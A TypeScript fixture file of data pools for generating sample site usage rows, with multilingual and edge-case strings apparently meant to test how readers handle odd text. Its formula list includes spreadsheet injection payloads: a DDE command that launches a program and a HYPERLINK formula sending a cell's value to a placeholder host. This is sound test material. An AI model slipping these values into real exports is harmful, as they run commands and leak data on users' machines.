/** Pools the sample usage data draws from: what makes rows look like those of a real site, and what breaks weak readers. */

export const products = [
  'Windows 11 Enterprise',
  'Windows 10 Enterprise',
  'Windows Server 2019',
  'Windows Server 2022',
  'Windows Server 2025',
  'SQL Server 2019',
  'SQL Server 2022',
  'Microsoft 365 Apps',
  'Endpoint Protection',
  'Edge Update',
] as const;

export const builds = [
  '10.0.19045.6456',
  '10.0.22631.6199',
  '10.0.26100.7171',
  '10.0.17763.8027',
  '10.0.20348.4405',
  '10.0.26100.7092',
] as const;

export const roles = [
  'SMS Site Server',
  'SMS Distribution Point',
  'SMS Management Point',
  'SMS Software Update Point',
  'SMS SRS Reporting Point',
  'SMS Dmp Connector',
  'SMS State Migration Point',
  'SMS Cloud Management Gateway',
] as const;

export const timeZones = [
  'W. Europe Standard Time',
  'Romance Standard Time',
  'Tokyo Standard Time',
  'GMT Standard Time',
  'Pacific Standard Time',
] as const;

export const consoleActions = [
  'SMS_Collection.View',
  'SMS_Application.Create',
  'SMS_DeploymentSummary.View',
  'SMS_Site.Properties',
  'SMS_TaskSequence.Edit',
  'SMS_R_System.Search',
  'SMS_SoftwareUpdate.Sync',
  'SMS_BoundaryGroup.Edit',
] as const;

/** Messages as components of sites in several languages write them: Dutch, French, Japanese, German, English. */
export const messages = [
  'De inhoud is niet gevonden op distributiepunt; de overdracht wordt over één uur opnieuw geprobeerd.',
  'Synchronisatie voltooid: 1.204 updates bijgewerkt, geen fouten – zie ook de statusberichten.',
  'Toegang geweigerd tot de map ‘Bronbestanden’. Controleer de machtigingen van de coördinator.',
  "La synchronisation est terminée ; aucune mise à jour n'a été refusée.",
  'Échec du téléchargement : le fichier « contenu » est déjà utilisé par un autre processus.',
  "L'élément a été créé à l'été 2024 (où ?) — vérifiez l'état du réseau, s'il vous plaît.",
  'サイト サーバーへの接続が確立されました。コンテンツの配布を再試行しています。',
  '更新プログラムの同期に失敗しました（エラー 0x80072EE2）。後でもう一度お試しください。',
  'ﾊﾞｯﾁ処理ﾊ正常ニ終了シマシタ',
  'Größe der Datenbank überschritten: Maßnahme nötig',
  'Deployment finished 🎉 – 98 % compliant, 2 % unknown 🤷🏽‍♀️',
  'Replication group healthy ✅ (link is "Active", 0 rows pending)',
  'The path "C:\\Program Files\\Content, shared" was skipped; see ""details"" below.',
  'First line of the summary\r\nsecond line, after a Windows line break\nthird line, after a bare line feed\rfourth',
  ' begins and ends with a space ',
  '\tbegins with a tab',
  'naïve café — e\u0301 and é are the same letter twice',
  'שלום and right-to-left text',
  'a,comma;semicolon|bar',
] as const;

/** Text a spreadsheet would take for a formula. */
export const formulaLike = [
  '=HYPERLINK("https://example.invalid/?"&A1,"Details")',
  '=1+1',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '+31 20 555 0100',
  '-0.5 %',
  '=IF(1=1,"yes","no")',
  '\t=2+3',
  '\r=2+3',
] as const;

/** Names whose hash, not the name, is in the data. */
export const hashedNames = [
  'P01',
  'P02',
  'P03',
  'CM_UpdatePackages',
  '00112233-4455-6677-8899-aabbccddeeff',
  '00000000-0000-0000-0000-000000000000',
] as const;
